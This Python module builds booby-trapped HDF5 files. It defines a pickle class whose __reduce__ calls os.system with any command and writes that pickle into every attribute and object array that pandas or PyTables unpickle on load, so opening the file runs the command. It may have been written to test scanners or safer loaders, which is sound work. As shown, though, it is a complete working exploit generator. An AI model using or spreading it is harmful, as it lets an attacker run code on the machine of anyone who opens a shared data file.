"""Puts pickles that run a command everywhere in an HDF5 file where pandas or PyTables would unpickle them."""

import os
import pickle
from pathlib import Path

import h5py
import numpy as np

GROUP = "df_with_missing"
GROUP_ATTRIBUTES = {
    "column names": "non_index_axes",
    "information": "info",
    "value columns": "values_cols",
    "index columns": "index_cols",
    "data columns": "data_columns",
    "levels": "levels",
    "encoding": "encoding",
    "errors": "errors",
    "type": "pandas_type",
    "table type": "table_type",
    "variety": "axis0_variety",
    "missing text": "nan_rep",
    "class of the group": "CLASS",
    "title of the group": "TITLE",
    "version of the group": "VERSION",
    "an attribute of its own": "more",
}
PLACES = (*GROUP_ATTRIBUTES, "root", "array", "kind", "meta", "object array", "object column", "another group")


class Command:
    """Unpickled, it runs a command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


def plant(path: Path, place: str, command: Command) -> bool:
    """Put the pickle into a file of pandas; False where the file has no such place."""
    trap = np.bytes_(pickle.dumps(command, 0))
    with h5py.File(path, "r+") as file:
        group = file[GROUP]
        table = group.get("table")
        if place == "root":
            for name in ("TITLE", "PYTABLES_FORMAT_VERSION", "more"):
                file.attrs[name] = trap
        elif place in GROUP_ATTRIBUTES:
            group.attrs[GROUP_ATTRIBUTES[place]] = trap
        elif place == "another group":
            file.create_group("other").attrs["pandas_type"] = trap
        elif place == "array":
            for node in group.values():
                for name in ("CLASS", "FLAVOR", "TITLE", "VERSION", "name", "kind", "nan_rep", "more"):
                    node.attrs[name] = trap
        elif table is not None and place in ("kind", "meta"):
            table.attrs[f"values_block_0_{place}"] = trap
        elif table is None and place in ("object array", "object column"):
            _object_array(group, "block0_values" if place == "object array" else "axis0_level1", trap)
        else:
            return False
    return True


def _object_array(group: h5py.Group, name: str, trap: np.bytes_) -> None:
    """As PyTables keeps an array of objects: one row of variable length that is a pickle."""
    del group[name]
    found = group.create_dataset(name, (1,), h5py.vlen_dtype(np.uint8))
    found[0] = np.frombuffer(bytes(trap), np.uint8)
    found.attrs["CLASS"], found.attrs["VERSION"] = np.bytes_(b"VLARRAY"), np.bytes_(b"1.4")
    found.attrs["PSEUDOATOM"], found.attrs["FLAVOR"] = np.bytes_(b"object"), np.bytes_(b"numpy")
